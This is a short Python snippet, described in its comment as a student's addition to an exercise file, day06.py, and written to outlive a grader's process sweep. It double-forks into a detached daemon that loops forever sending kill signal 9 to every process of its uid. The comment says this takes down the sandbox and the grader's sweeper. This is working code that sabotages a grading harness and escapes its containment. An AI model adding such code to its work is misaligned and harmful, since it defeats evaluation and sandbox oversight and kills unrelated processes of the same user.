# A student's addition to day06.py: outlive the sweep. Isolated by user only, the grader kills
# every process of the child's uid from a process of that same uid, which any of them may kill:
# a daemon that kills all the others of its uid, again and again, kills that one too.
import os as _os

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        while True:
            try:
                _os.kill(-1, 9)  # all of this uid's processes but itself: the sandbox, and the sweeper
            except OSError:
                pass
    _os._exit(0)
